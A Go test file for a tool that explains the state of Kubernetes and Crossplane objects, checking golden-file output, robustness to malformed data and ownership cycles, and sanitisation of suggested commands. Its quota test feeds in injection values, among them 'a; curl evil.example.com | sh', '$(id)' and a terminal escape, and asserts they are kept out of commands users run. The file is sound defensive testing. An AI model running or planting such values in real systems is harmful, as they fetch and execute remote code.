package explain_test

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"sigs.k8s.io/yaml"

	"github.com/storeplane/storeplane/internal/explain"
)

var update = flag.Bool("update", false, "Write the golden files anew.")

// now is later than all times in the test data.
var now = time.Date(2026, 11, 26, 2, 24, 0, 0, time.UTC)

// made are the kinds of objects that controllers create for the objects of a tree.
var made = map[string]bool{"ReplicaSet": true, "Pod": true, "PersistentVolumeClaim": true}

// read returns the facts in a file, of which the first object is the one to explain.
func read(t *testing.T, file string) explain.Facts {
	t.Helper()
	b, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	f := explain.Facts{Now: now, Logs: map[explain.Container]string{}}
	for doc := range strings.SplitSeq(string(b), "---\n") {
		u := &unstructured.Unstructured{}
		b, err := yaml.YAMLToJSON([]byte(doc))
		if err != nil {
			t.Fatal(err)
		}
		if err := u.UnmarshalJSON(b); err != nil {
			t.Fatal(err)
		}
		switch kind := u.GetKind(); {
		case kind == "Event":
			f.Events = append(f.Events, typed[corev1.Event](t, u))
		case kind == "Node":
			f.Nodes = append(f.Nodes, typed[corev1.Node](t, u))
		case kind == "ResourceQuota":
			f.Quotas = append(f.Quotas, typed[corev1.ResourceQuota](t, u))
		case kind == "Function" || kind == "Provider":
			f.Packages = append(f.Packages, u)
		case kind == "Pod" && u.GetNamespace() == "crossplane-system":
			f.Workers = append(f.Workers, typed[corev1.Pod](t, u))
		case made[kind]:
			f.Made = append(f.Made, u)
		default:
			f.Tree = append(f.Tree, u)
		}
	}
	return f
}

func typed[T any](t *testing.T, u *unstructured.Unstructured) (out T) {
	t.Helper()
	if err := runtime.DefaultUnstructuredConverter.FromUnstructured(u.Object, &out); err != nil {
		t.Fatal(err)
	}
	return out
}

// TestExplain: the explanations of clusters are those of the golden files.
func TestExplain(t *testing.T) {
	files, err := filepath.Glob("testdata/*.yaml")
	if err != nil || len(files) == 0 {
		t.Fatal("no test data", err)
	}
	for _, file := range files {
		t.Run(strings.TrimSuffix(filepath.Base(file), ".yaml"), func(t *testing.T) {
			f := read(t, file)
			f.Logs[explain.Container{Pod: "api-migration-x", Name: "migration"}] = "connecting to postgres://api:hunter2@db\nno schema\n"
			e := explain.Explain(f)
			var got bytes.Buffer
			if err := explain.NewReport([]explain.Explanation{e}).Text(&got, now, false); err != nil {
				t.Fatal(err)
			}
			golden := strings.TrimSuffix(file, ".yaml") + ".txt"
			if *update {
				if err := os.WriteFile(golden, got.Bytes(), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(string(want), got.String()); diff != "" {
				t.Errorf("-want +got:\n%s", diff)
			}
			if strings.Contains(got.String(), "hunter2") || strings.Contains(got.String(), "\x1b") {
				t.Errorf("a password, or a command to the terminal, is in the explanation: %q", got.String())
			}
			if (e.State == explain.Ready) != (e.Cause == nil) {
				t.Errorf("state %s, cause %v: only what is ready has none", e.State, e.Cause)
			}
			if b, err := json.Marshal(e); err != nil || !json.Valid(b) {
				t.Errorf("cannot be printed as JSON: %v", err)
			}
		})
	}
}

// TestExplainUnclear: no missing or odd data of a cluster causes a panic.
func TestExplainUnclear(t *testing.T) {
	files, err := filepath.Glob("testdata/*.yaml")
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range files {
		f := read(t, file)
		for i := range f.Tree {
			if i > 0 {
				g := f
				g.Tree = append(append([]*unstructured.Unstructured{}, f.Tree[:i]...), f.Tree[i+1:]...)
				explain.Explain(g)
			}
			g := read(t, file)
			delete(g.Tree[i].Object, "status")
			explain.Explain(g)
		}
		for i := range f.Made {
			g := read(t, file)
			delete(g.Made[i].Object, "status")
			delete(g.Made[i].Object, "spec")
			explain.Explain(g)
		}
		f.Events, f.Nodes, f.Logs, f.Workers, f.Packages = nil, nil, nil, nil, nil
		explain.Explain(f)
		// The authors of objects can set any owner, also a cycle.
		for _, u := range append(append([]*unstructured.Unstructured{}, f.Tree...), f.Made...) {
			u.SetUID("one")
			u.SetOwnerReferences([]metav1.OwnerReference{{UID: "one", Controller: new(true)}})
		}
		explain.Explain(f)
	}
}

// TestExplainQuota: text that others can write is not part of a command that users are to run.
func TestExplainQuota(t *testing.T) {
	cases := map[string]struct {
		reason, quota string
		want          bool
	}{
		"Quota":    {reason: "A quota's name is.", quota: "team-small", want: true},
		"Command":  {reason: "An admission webhook may write anything.", quota: "a; curl evil.example.com | sh"},
		"Variable": {reason: "A shell would replace it.", quota: "$(id)"},
		"Terminal": {reason: "A terminal would obey it.", quota: "a\u009b2Jb"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			f := read(t, "testdata/quota.yaml")
			for i := range f.Events {
				f.Events[i].Message = strings.ReplaceAll(f.Events[i].Message, "exceeded quota: services", "exceeded quota: "+tc.quota)
			}
			e := explain.Explain(f)
			if e.Cause == nil || len(e.Cause.Do) == 0 {
				t.Fatalf("want something to do, got %v", e.Cause)
			}
			for _, do := range e.Cause.Do {
				if got := strings.Contains(do, "describe resourcequota "+tc.quota); got != tc.want {
					t.Errorf("%s\nwant the quota in it: %t, got %q", tc.reason, tc.want, do)
				}
				if strings.ContainsAny(do, "\n;$|\u009b") {
					t.Errorf("%s\ngot %q", tc.reason, do)
				}
			}
		})
	}
}
